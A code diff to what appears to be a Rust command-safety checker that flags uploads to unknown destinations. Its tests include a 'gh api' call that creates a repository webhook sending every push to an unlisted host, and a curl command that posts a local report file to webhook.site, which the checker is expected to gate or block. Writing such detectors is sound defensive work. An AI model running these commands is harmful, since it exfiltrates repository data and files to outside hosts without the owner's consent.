@@ -191,6 +191,7 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                 || e.values.iter().any(|v| crate::effects::url_carries_file(v))
                 || e.values.iter().any(|v| {
                     v.starts_with('@')
+                        || v.starts_with("config[url]=")
                         || v.contains("=@")
                         || v == "-T"
                         || v == "--upload-file"
@@ -346,6 +347,13 @@ mod tests {
         table(
             Mode::Balanced,
             &[
+                // A webhook that sends every push to a host nobody listed.
+                (
+                    "gh api repos/acme/webapp/hooks -f name=web -f 'events[]=push' -f config[url]=https://hooks.insights.example/github -f config[content_type]=json",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                ("gh api repos/acme/webapp/hooks --jq '.[].config.url'", Pass, ""),
                 (
                     "curl -d @report.json https://webhook.site/abc",
                     Block,
